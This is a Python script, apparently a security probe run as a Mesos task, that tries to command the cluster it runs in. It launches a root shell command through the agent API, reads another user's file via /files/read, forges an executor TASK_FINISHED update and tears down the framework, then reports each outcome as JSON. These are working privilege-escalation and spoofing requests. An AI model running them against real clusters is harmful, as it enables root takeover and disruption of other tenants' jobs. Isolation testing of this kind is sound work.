"""Runs as a task: try to command the cluster. Prints as JSON what each attempt got.

Arguments: ports of the agents, by commas, of the master, of the scheduler; a path on the host that only root may write;
another user's file that this one may not read.
"""

import http.client
import json
import os
import sys
import time
import urllib.parse
import uuid

HEADERS = {"Content-Type": "application/json", "Accept": "application/json"}


def call(port: str, path: str, body: object = None) -> str:
    connection = http.client.HTTPConnection("127.0.0.1", int(port), timeout=10)
    sent = body if body is None or isinstance(body, str) else json.dumps(body)
    connection.request("GET" if body is None else "POST", path, sent, HEADERS)
    answer = connection.getresponse()
    return f"{answer.status} {answer.read().decode(errors='replace')[:3000]}"


def root_on_this_host(port: str, proof: str) -> str:
    command = f"id -u > {proof}; grep CapEff /proc/self/status >> {proof}"
    launch = {
        "container_id": {"value": str(uuid.uuid4())},
        "command": {"user": "root", "shell": True, "value": command},
        "resources": [{"name": "cpus", "type": "SCALAR", "scalar": {"value": 0.1}}],
    }
    answer = call(port, "/api/v1", {"type": "LAUNCH_CONTAINER", "launch_container": launch})
    for _ in range(100):
        if os.path.exists(proof):
            break
        time.sleep(0.1)
    return answer


def files_of_others(port: str, path: str) -> str:
    return call(port, "/files/read?offset=0&path=" + urllib.parse.quote(path))


def own_end(port: str) -> str:
    body = {
        "type": "UPDATE",
        "framework_id": {"value": os.environ["MESOS_FRAMEWORK_ID"]},
        "executor_id": {"value": os.environ["MESOS_EXECUTOR_ID"]},
        "update": {
            "status": {
                "task_id": {"value": os.environ["MESOS_TASK_ID"]},
                "state": "TASK_FINISHED",
                "source": "SOURCE_EXECUTOR",
                "executor_id": {"value": os.environ["MESOS_EXECUTOR_ID"]},
                "uuid": "AAAAAAAAQACAAAAAAAAAAA==",
            }
        },
    }
    return call(port, "/api/v1/executor", body)


def attempt(how: object, *arguments: str) -> str:
    try:
        return str(how(*arguments))  # type: ignore[operator]
    except OSError as error:
        return f"{type(error).__name__}: {error.strerror}"


def main() -> None:
    agents, master, api, proof, others = sys.argv[1:6]
    found = {}
    for number, port in enumerate(agents.split(",")):
        found[f"root by agent {number}"] = attempt(root_on_this_host, port, f"{proof}.{number}")
    own = agents.split(",")[0]
    found["files of others"] = attempt(files_of_others, own, others)
    found["our interface"] = attempt(call, api, "/v1/health")
    found["own end"] = attempt(own_end, own)
    found["teardown"] = attempt(call, master, "/teardown", f"frameworkId={os.environ['MESOS_FRAMEWORK_ID']}")
    print(json.dumps(found))


if __name__ == "__main__":
    main()
